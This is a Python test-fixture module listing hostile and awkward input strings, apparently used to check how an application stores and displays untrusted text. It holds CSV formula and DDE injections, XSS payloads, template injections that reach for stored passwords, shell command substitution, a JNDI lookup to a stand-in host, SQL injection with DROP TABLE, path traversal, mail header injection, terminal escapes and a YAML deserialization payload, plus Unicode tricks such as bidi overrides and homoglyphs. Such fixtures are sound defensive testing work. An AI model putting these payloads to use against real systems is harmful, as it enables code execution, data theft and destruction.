"""Texts that somebody could put wherever one may stand; each has run, vanished or broken something somewhere."""

from hashlib import sha256

TAG = "zq81"
"""In every text that would show itself by running: in no page of ours does it name a tag, an attribute or a script."""

RUN = {
    "a formula": f'=HYPERLINK("https://{TAG}.example","pay")',
    "a formula behind blanks": f"  \t=cmd|' /C calc {TAG}'!A0",
    "a formula with a full-width sign": f"\uff1d1+{TAG}",
    "a formula of plus": f"+1+{TAG}()",
    "a formula of minus": f"-2+3+cmd|{TAG}",
    "a formula of at": f"@SUM({TAG})",
    "a macro by percent": f"%{TAG}%",
    "a pipe": f"|{TAG}",
    "a script": f"<script>{TAG}()</script>",
    "a script that closes others": f"</script></style></title></textarea><script>{TAG}()</script>",
    "an image": f'"><img src=x onerror={TAG}()>',
    "a drawing": f"<svg/onload={TAG}()>",
    "an own element": f"<{TAG}-x onclick='{TAG}()'>",
    "an attribute": f"' onmouseover='{TAG}() \" onfocus={TAG}() x=\"",
    "a link that runs": f"javascript:{TAG}()",
    "a page in a link": f"data:text/html,<script>{TAG}()</script>",
    "a comment that opens": f"<!-- {TAG}",
    "a character reference": f"&lt;{TAG}&gt; &amp; &#x3c;",
    "a template": f"{{{{ 7*7 }}}} {{% {TAG} %}} {{# c #}}",
    "a template with our secrets": "{{ conn.salesforce_api.password }} {{ var.value.x }} {{ ''.__class__ }}",
    "a format": f"%s %n %(password)s {{0}} {{{TAG}.__init__}} %x%x%x",
    "a shell": f"$({TAG}) `{TAG}` ; {TAG} & | > /tmp/{TAG}",
    "an expansion": "${jndi:ldap://x.example/a} $HOME %PATH%",
    "a query": f"'; DROP TABLE {TAG}; --",
    "a query in quotes": f'" OR "{TAG}"="{TAG}',
    "a query of Salesforce": f"x' OR Name != '{TAG}",
    "a backslash at the end": "O'Brien\\",
    "a path": f"../../../../etc/{TAG}",
    "a path of Windows": f"C:\\..\\{TAG}\\con",
    "a path in a URL": f"%2e%2e%2f{TAG}?x=1#y",
    "a header": f"x\r\nBcc: {TAG}@{TAG}.example\r\n\r\nbody",
    "an end of a mail": f"a\r\n.\r\nQUIT {TAG}",
    "a mention of all": f"<!channel> <!here> {TAG}",
    "a mention": f"<@U012AB3CD> <#C01> <https://{TAG}.example|our bank>",
    "marks of Slack": "*bold* _it_ ~no~ `code` ```block``` :tada: > quote",
    "marks of Markdown": f"[x](https://{TAG}.example) ![y](z) # h\n- a\n1. b | c",
    "a steered terminal": f"\x1b]0;{TAG}\x07\x1b[2J\x1b[31m\x9b1m\x08\x7f",
    "a document of YAML": f"!!python/object/apply:{TAG}.system ['id'] # : - &a *a",
    "a cell within a cell": 'a,"b",c;d\t"e"\n"f',
}

SHOWN = {
    "from right to left": "\u05e2\u05d1\u05e8\u05d9\u05ea \u0627\u0644\u0639\u0631\u0628\u064a\u0629 1,000.00",
    "turned around": "INV\u202e001-\u202d\u2066x\u2069",
    "nothing to see": "ze\u200bro\u200c\u200d\u2060\ufeff wi\u00addth",
    "marks upon marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324 a\u0308 \u00e4",
    "far away": "\U0001f9ec \U00020bb7\u91ce \U0001d4d0",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "a mark of order": "\ufeffBOM",
    "blanks of all kinds": "a\u00a0b\u2003c\u3000d\u2028e\u2029f\x0bg\x85h",
    "letters like ours": "\u0430pple \u0399nvoice \u212aelvin \uff21\uff22 \ufb01n \u0131\u0130\u017f\u00df",
    "Tamil and Thai": "\u0ba8\u0bbf \u0e01\u0e33\u0e49",
    "no characters": "\ufffe\uffff\ufdd0",
    "nobody": "null",
    "nothing": "None",
    "not there": "undefined",
    "no number": "NaN",
    "yes or no": "false",
    "a number with zeros": "007",
    "a number with a power": "1e5",
    "a number in words of others": "1.234,56",
    "digits of others": "\u0663\u0664",
    "a date": "1/2/2026",
    "a stand-in": "pii1:0000000000000000000000",
    "as long as may be": "".join(sha256(bytes([n])).hexdigest() for n in range(157))[:10_000],
}

UNSTORABLE = {
    "a NUL": "a\0b",
    "half a character": "half \ud83d",
    "too long": "x" * 100_000,
}
"""What no column of ours holds: kept as received and quarantined."""

KEPT = {**RUN, **SHOWN}
ALL = {**KEPT, **UNSTORABLE}


def flat(text: str) -> str:
    """A text as pages show it: blanks of any kind are one."""
    return " ".join(text.split())
